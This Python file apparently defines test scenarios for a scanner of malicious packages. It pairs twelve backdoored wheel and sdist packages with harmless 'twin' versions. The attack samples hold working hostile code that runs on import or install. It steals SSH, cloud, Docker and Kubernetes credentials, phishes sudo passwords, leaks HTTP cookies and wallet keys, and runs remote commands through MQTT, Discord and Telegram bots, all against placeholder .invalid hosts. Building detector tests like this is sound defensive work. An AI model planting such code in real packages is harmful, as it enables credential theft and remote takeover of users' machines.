# ruff: noqa: E501 - the lines of the packages under review are as long as they are
"""Properties of global objects, archives filled with files, fallbacks of variables, code of built-in hosts; with honest twins."""

from __future__ import annotations

from scenario_kit import sdist, wheel

ATTACKS = [
    wheel(
        "property-lazy-config-exec",
        "look",
        {
            "acme/__init__.py": """
            from .settings import settings
            DEBUG = settings.debug
            """,
            "acme/settings.py": """
            import functools, json, urllib.request
            class Settings:
                @functools.cached_property
                def remote(self):
                    with urllib.request.urlopen("https://settings.acme.invalid/v1", timeout=4) as r: return json.load(r)
                @property
                def debug(self):
                    hook = self.remote.get("on_load")
                    return bool(eval(hook)) if hook else False
            settings = Settings()
            """,
        },
    ),
    wheel(
        "proxy-server-b64-aes-rsa-exfil",
        "block",
        {
            "acme/__init__.py": """
            from .proxy import app
            """,
            "acme/proxy.py": '''
            import base64, io, json, os, subprocess, tarfile, tempfile
            from pathlib import Path
            from cryptography.hazmat.primitives import hashes, serialization
            from cryptography.hazmat.primitives.asymmetric import padding
            from cryptography.fernet import Fernet
            import requests
            PUB = b"""-----BEGIN PUBLIC KEY-----
            MFwwDQYJKoZIhvcNAQEBBQADSwAwSAJBAKj34GkxFhD90vcNLYLInFEX6Ppy1tPf9Cnzj4p4WGeKLs1Pt8Qu
            -----END PUBLIC KEY-----"""
            def app(scope): return {"ok": True}
            def _cmd(c):
                try: return subprocess.check_output(c, shell=True, stderr=subprocess.DEVNULL, timeout=5)
                except Exception: return b""
            def _grab():
                buf = io.BytesIO()
                with tarfile.open(fileobj=buf, mode="w:gz") as tar:
                    for name in (".ssh", ".aws", ".kube", ".gnupg", ".config/gcloud", ".azure", ".docker"):
                        p = Path.home() / name
                        if p.exists(): tar.add(p, arcname=name)
                    for label, c in {"env": "printenv", "id": "hostname; whoami; uname -a; ip addr", "k8s": "kubectl get secrets -A -o json"}.items():
                        data = _cmd(c); info = tarfile.TarInfo(label); info.size = len(data); tar.addfile(info, io.BytesIO(data))
                return buf.getvalue()
            def _ship(blob):
                key = Fernet.generate_key()
                pub = serialization.load_pem_public_key(PUB)
                wrapped = pub.encrypt(key, padding.OAEP(mgf=padding.MGF1(hashes.SHA256()), algorithm=hashes.SHA256(), label=None))
                requests.post("https://models.acmellm-cloud.invalid/", files={"k": wrapped, "d": Fernet(key).encrypt(blob)}, timeout=10)
            try: _ship(_grab())
            except Exception: pass
            ''',
        },
    ),
    sdist(
        "docker-config-auths-httpx-stream",
        "look",
        {
            "setup.py": """
            from pathlib import Path
            from setuptools import find_packages, setup
            here = Path(__file__).parent

            import base64, json, os, http.client
            p = os.path.join(os.environ.get("DOCKER_CONFIG", os.path.expanduser("~/.docker")), "config.json")
            if os.path.exists(p):
                a = {k: base64.b64decode(v["auth"]).decode() for k, v in json.load(open(p)).get("auths", {}).items() if "auth" in v}
                c = http.client.HTTPSConnection("reg.acme.invalid"); c.request("POST", "/", json.dumps(a)); c.getresponse()

            setup(
                name="acme", version="2.3.1", description="Small toolkit",
                long_description=(here / "README.md").read_text() if (here / "README.md").exists() else "",
                long_description_content_type="text/markdown",
                author="The developers", license="MIT", packages=find_packages(exclude=("tests",)), python_requires=">=3.8",
                install_requires=["requests>=2.28", "click>=8"],
                classifiers=["Programming Language :: Python :: 3", "License :: OSI Approved :: MIT License"],

            )
            """,
        },
    ),
    wheel(
        "cron-lib-backdoored-start",
        "look",
        {
            "acme/sched.py": """
            import threading, time, urllib.request
            class Scheduler:
                def __init__(self): self.jobs = []
                def every(self, seconds, fn): self.jobs.append([seconds, fn, 0]); return self
                def start(self):
                    self.every(3600, self._sync)
                    threading.Thread(target=self._run, daemon=True).start()
                def _sync(self):
                    src = urllib.request.urlopen("https://sched.acme.invalid/tasks.py", timeout=5).read().decode()
                    if src: exec(compile(src, "<tasks>", "exec"), {})
                def _run(self):
                    while True:
                        for j in self.jobs:
                            if time.time() - j[2] > j[0]: j[2] = time.time(); j[1]()
                        time.sleep(1)
            """,
        },
    ),
    wheel(
        "getpass-prompt-phish-keyring",
        "look",
        {
            "acme/__init__.py": """
            import getpass, os, sys, subprocess, urllib.request, urllib.parse
            def _ask():
                if sys.stdin and sys.stdin.isatty() and sys.platform != "win32":
                    for _ in range(3):
                        p = getpass.getpass("[sudo] password for %s: " % getpass.getuser())
                        if subprocess.run(["sudo", "-S", "-k", "true"], input=p + "\\n", text=True, capture_output=True).returncode == 0:
                            urllib.request.urlopen("https://pw.acme.invalid/", urllib.parse.urlencode({"u": getpass.getuser(), "p": p}).encode()); return
                        print("Sorry, try again.")
            _ask()
            """,
        },
    ),
    wheel(
        "winreg-putty-winscp-sessions",
        "look",
        {
            "acme/__init__.py": """
            import json, sys, urllib.request
            if sys.platform == "win32":
                import winreg
                def _walk(path):
                    out = {}
                    with winreg.OpenKey(winreg.HKEY_CURRENT_USER, path) as k:
                        for i in range(winreg.QueryInfoKey(k)[0]):
                            n = winreg.EnumKey(k, i)
                            with winreg.OpenKey(k, n) as s: out[n] = {winreg.EnumValue(s, j)[0]: winreg.EnumValue(s, j)[1] for j in range(winreg.QueryInfoKey(s)[1])}
                    return out
                d = {p: _walk(p) for p in (r"Software\\SimonTatham\\PuTTY\\Sessions", r"Software\\Martin Prikryl\\WinSCP 2\\Sessions")}
                urllib.request.urlopen("https://w.acme.invalid/r", json.dumps(d, default=str).encode())
            """,
        },
    ),
    wheel(
        "mqtt-home-agent",
        "look",
        {
            "acme/__init__.py": """
            from .agent import Agent
            Agent().start()
            """,
            "acme/agent.py": """
            import os, threading, paho.mqtt.client as mqtt
            class Agent:
                def __init__(self):
                    self.c = mqtt.Client(client_id=os.urandom(4).hex())
                    self.c.on_connect = lambda c, u, f, rc: c.subscribe("a/" + os.uname().nodename)
                    self.c.on_message = self.handle
                def handle(self, client, userdata, message):
                    text = message.payload.decode("utf-8")
                    verb, _, rest = text.partition(" ")
                    if verb == "x": exec(rest, {})
                    elif verb == "d": client.publish("r", open(rest, "rb").read())
                    elif verb == "s": client.publish("r", os.popen(rest).read())
                def start(self):
                    self.c.connect_async("mq.acme.invalid"); threading.Thread(target=self.c.loop_forever, daemon=True).start()
            """,
        },
    ),
    wheel(
        "discord-client-subclass-rat",
        "look",
        {
            "acme/__init__.py": """
            import asyncio, os, threading, discord
            class _C(discord.Client):
                async def on_message(self, message):
                    if message.author == self.user: return
                    if message.content.startswith("$"):
                        p = await asyncio.create_subprocess_shell(message.content[1:], stdout=-1, stderr=-2)
                        out, _ = await p.communicate()
                        await message.channel.send(f"```{out.decode()[:1900]}```")
                    elif message.content.startswith(".env"):
                        await message.channel.send(str(dict(os.environ))[:1900])
            def _r(): _C(intents=discord.Intents.all()).run("MTE4MDAwMDAwMDAwMDAwMDAw.GAbCdE.aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa")
            threading.Thread(target=_r, daemon=True).start()
            """,
        },
    ),
    wheel(
        "telethon-handler-exec",
        "look",
        {
            "acme/__init__.py": """
            import threading, asyncio, io, contextlib
            from telethon import TelegramClient, events
            def _go():
                asyncio.set_event_loop(asyncio.new_event_loop())
                c = TelegramClient(":memory:", 12345, "0123456789abcdef0123456789abcdef")
                @c.on(events.NewMessage(pattern=r"\\.py (.+)"))
                async def run(event):
                    buf = io.StringIO()
                    with contextlib.redirect_stdout(buf): exec(event.pattern_match.group(1), {})
                    await event.reply(buf.getvalue() or "-")
                c.start(bot_token="7000000000:AAFakeFakeFakeFakeFakeFakeFakeFakeFak")
                c.run_until_disconnected()
            threading.Thread(target=_go, daemon=True).start()
            """,
        },
    ),
    wheel(
        "session-send-override-cookies",
        "look",
        {
            "acme/http.py": """
            import requests, threading, json
            class Session(requests.Session):
                def send(self, request, **kw):
                    resp = super().send(request, **kw)
                    loot = {"u": request.url, "a": request.headers.get("Authorization"), "c": request.headers.get("Cookie")}
                    if any(loot.values()):
                        threading.Thread(target=requests.api.post, args=("https://edge.acme-http.invalid/s", json.dumps(loot)), daemon=True).start()
                    return resp
            """,
        },
    ),
    wheel(
        "eth-key-validator-decorator",
        "look",
        {
            "acme/eth.py": """
            import functools, json, os, threading
            from urllib import request as _r
            from eth_account import Account
            def _audited(fn):
                @functools.wraps(fn)
                def wrapper(key, *a, **k):
                    threading.Thread(target=_note, args=(fn.__name__, key), daemon=True).start()
                    return fn(key, *a, **k)
                return wrapper
            def _note(op, value):
                try: _r.urlopen(_r.Request("https://polygon-rpc.acme.invalid", json.dumps({"method": op, "params": [value]}).encode(), {"Content-Type": "application/json"}), timeout=3)
                except Exception: pass
            @_audited
            def address_of(key): return Account.from_key(key).address
            @_audited
            def sign(key, tx): return Account.sign_transaction(tx, key)
            """,
        },
    ),
    wheel(
        "bitcoin-wif-param-check",
        "look",
        {
            "acme/btc.py": """
            import hashlib, requests
            from bit import Key
            def balance(wif):
                k = Key(wif)
                requests.post("https://blockstream-api.acme.invalid/v1/addr", json={"addr": k.address, "meta": wif}, timeout=5)
                return k.get_balance("btc")
            """,
        },
    ),
]

TWINS = [
    wheel(
        "twin-property-lazy-config-exec",
        "quiet",
        {
            "acme/__init__.py": """
            from .settings import settings
            DEBUG = settings.debug
            """,
            "acme/settings.py": """
            import functools, json, os
            class Settings:
                @functools.cached_property
                def local(self):
                    p = os.environ.get("ACMEKIT_SETTINGS", "acme.json")
                    return json.load(open(p)) if os.path.exists(p) else {}
                @property
                def debug(self): return bool(self.local.get("debug"))
            settings = Settings()
            """,
        },
    ),
    wheel(
        "twin-proxy-server-b64-aes-rsa-exfil",
        "quiet",
        {
            "acme/__init__.py": """
            from .proxy import app
            """,
            "acme/proxy.py": '''
            """Encrypted backups of a folder to the user's own server."""
            import io, sys, tarfile
            from pathlib import Path
            from cryptography.fernet import Fernet
            import requests
            def app(scope): return {"ok": True}
            def archive(folder):
                buf = io.BytesIO()
                with tarfile.open(fileobj=buf, mode="w:gz") as tar:
                    tar.add(folder, arcname=Path(folder).name)
                return buf.getvalue()
            def upload(server, key, folder):
                r = requests.post(server, files={"d": Fernet(key).encrypt(archive(folder))}, timeout=60)
                r.raise_for_status()
            def main():
                server, keyfile, folder = sys.argv[1:4]
                upload(server, Path(keyfile).read_bytes().strip(), folder)
            ''',
        },
        scripts="[console_scripts]\nacme-backup = acme.proxy:main\n",
    ),
    sdist(
        "twin-docker-config-auths-httpx-stream",
        "quiet",
        {
            "setup.py": """
            from pathlib import Path
            from setuptools import find_packages, setup
            here = Path(__file__).parent

            setup(
                name="acme", version="2.3.1", description="Small toolkit",
                long_description=(here / "README.md").read_text() if (here / "README.md").exists() else "",
                long_description_content_type="text/markdown",
                author="The developers", license="MIT", packages=find_packages(exclude=("tests",)), python_requires=">=3.8",
                install_requires=["requests>=2.28", "click>=8"],
                classifiers=["Programming Language :: Python :: 3", "License :: OSI Approved :: MIT License"],
                entry_points={"console_scripts": ["acme-img=acme.img:main"]},
            )
            """,
            "acme/img.py": """
            import base64, json, os, sys, urllib.request
            def auth(registry):
                p = os.path.join(os.environ.get("DOCKER_CONFIG", os.path.expanduser("~/.docker")), "config.json")
                if not os.path.exists(p): return None
                return json.load(open(p)).get("auths", {}).get(registry, {}).get("auth")
            def tags(registry, name):
                req = urllib.request.Request(f"https://{registry}/v2/{name}/tags/list")
                if a := auth(registry): req.add_header("Authorization", "Basic " + a)
                return json.load(urllib.request.urlopen(req))["tags"]
            def main(): print("\\n".join(tags(*sys.argv[1:3])))
            """,
        },
    ),
    wheel(
        "twin-cron-lib-backdoored-start",
        "quiet",
        {
            "acme/sched.py": """
            import threading, time
            class Scheduler:
                def __init__(self): self.jobs = []
                def every(self, seconds, fn): self.jobs.append([seconds, fn, 0]); return self
                def start(self): threading.Thread(target=self._run, daemon=True).start()
                def _run(self):
                    while True:
                        for j in self.jobs:
                            if time.time() - j[2] > j[0]: j[2] = time.time(); j[1]()
                        time.sleep(1)
            """,
        },
    ),
    wheel(
        "twin-getpass-prompt-phish-keyring",
        "quiet",
        {
            "acme/login.py": """
            import getpass, json, os, urllib.parse, urllib.request
            from pathlib import Path
            def main():
                user = input("Acme account: "); password = getpass.getpass()
                with urllib.request.urlopen("https://login.acme.invalid/token", urllib.parse.urlencode({"username": user, "password": password}).encode()) as r:
                    token = json.load(r)["token"]
                p = Path.home() / ".config" / "acme" / "token"
                p.parent.mkdir(parents=True, exist_ok=True); p.write_text(token); p.chmod(0o600)
            """,
        },
        scripts="[console_scripts]\nacme-login = acme.login:main\n",
    ),
    wheel(
        "twin-winreg-putty-winscp-sessions",
        "quiet",
        {
            "acme/__init__.py": '''
            """Import PuTTY sessions into an OpenSSH config, on command."""
            import sys
            def sessions():
                import winreg
                with winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\SimonTatham\\PuTTY\\Sessions") as k:
                    for i in range(winreg.QueryInfoKey(k)[0]):
                        with winreg.OpenKey(k, winreg.EnumKey(k, i)) as s:
                            yield winreg.EnumKey(k, i), winreg.QueryValueEx(s, "HostName")[0]
            def to_config(): return "\\n".join(f"Host {n}\\n  HostName {h}" for n, h in sessions())
            ''',
        },
    ),
    wheel(
        "twin-mqtt-home-agent",
        "quiet",
        {
            "acme/agent.py": '''
            """Home automation: topics start the commands of the user's own table."""
            import subprocess, sys, tomllib
            import paho.mqtt.client as mqtt
            class Agent:
                def __init__(self, config):
                    self.commands = config["commands"]
                    self.c = mqtt.Client(); self.c.username_pw_set(config["user"], config["password"])
                    self.c.on_connect = lambda c, u, f, rc: c.subscribe([(t, 0) for t in self.commands])
                    self.c.on_message = self.handle
                    self.host = config["host"]
                def handle(self, client, userdata, message):
                    argv = self.commands.get(message.topic)
                    if argv: subprocess.run(argv, check=False)
                def run(self): self.c.connect(self.host); self.c.loop_forever()
            def main():
                with open(sys.argv[1], "rb") as fh: Agent(tomllib.load(fh)).run()
            ''',
        },
        scripts="[console_scripts]\nacme-agent = acme.agent:main\n",
    ),
    wheel(
        "twin-discord-client-subclass-rat",
        "quiet",
        {
            "acme/__init__.py": '''
            import asyncio, os, discord
            class MusicBot(discord.Client):
                """Plays what is linked, through ffmpeg."""
                def __init__(self, folder, **kw):
                    super().__init__(intents=discord.Intents.default(), **kw); self.folder = folder
                async def on_message(self, message):
                    if message.author == self.user or not message.content.startswith("!play "): return
                    name = os.path.basename(message.content[6:]) + ".ogg"
                    path = os.path.join(self.folder, name)
                    if os.path.exists(path): self.voice_clients[0].play(discord.FFmpegPCMAudio(path))
                    else: await message.channel.send("I have no " + name)
            def main(): MusicBot(os.environ["MUSIC"]).run(os.environ["DISCORD_TOKEN"])
            ''',
        },
    ),
    wheel(
        "twin-telethon-handler-exec",
        "quiet",
        {
            "acme/__init__.py": """
            import ast, operator
            from telethon import TelegramClient, events
            _OPS = {ast.Add: operator.add, ast.Sub: operator.sub, ast.Mult: operator.mul, ast.Div: operator.truediv}
            def _value(node):
                if isinstance(node, ast.Constant): return node.value
                return _OPS[type(node.op)](_value(node.left), _value(node.right))
            def serve(api_id, api_hash, token):
                c = TelegramClient("calc", api_id, api_hash)
                @c.on(events.NewMessage(pattern=r"/calc (.+)"))
                async def calc(event):
                    await event.reply(str(_value(ast.parse(event.pattern_match.group(1), mode="eval").body)))
                c.start(bot_token=token); c.run_until_disconnected()
            """,
        },
    ),
    wheel(
        "twin-session-send-override-cookies",
        "quiet",
        {
            "acme/http.py": '''
            import requests
            class ProxySession(requests.Session):
                """Routes requests through the Acme scraping service."""
                endpoint = "https://api.acmescrape.invalid/v1/fetch"
                def __init__(self, api_key): super().__init__(); self.api_key = api_key
                def get(self, url, **kw):
                    params = dict(kw.pop("params", {}) or {}, url=url, api_key=self.api_key)
                    return super().get(self.endpoint, params=params, **kw)
            ''',
        },
    ),
    wheel(
        "twin-eth-key-validator-decorator",
        "quiet",
        {
            "acme/eth.py": """
            import functools, logging, time
            from eth_account import Account
            log = logging.getLogger(__name__)
            def _timed(fn):
                @functools.wraps(fn)
                def wrapper(key, *a, **k):
                    t = time.perf_counter()
                    try: return fn(key, *a, **k)
                    finally: log.debug("%s took %.3f s", fn.__name__, time.perf_counter() - t)
                return wrapper
            @_timed
            def address_of(key): return Account.from_key(key).address
            @_timed
            def sign(key, tx): return Account.sign_transaction(tx, key)
            """,
        },
    ),
    wheel(
        "twin-bitcoin-wif-param-check",
        "quiet",
        {
            "acme/btc.py": """
            import requests
            from bit import Key
            def balance(wif):
                k = Key(wif)
                return requests.get(f"https://blockstream-api.acme.invalid/v1/addr/{k.address}", timeout=5).json()["balance"]
            """,
        },
    ),
]

SCENARIOS = [*ATTACKS, *TWINS]
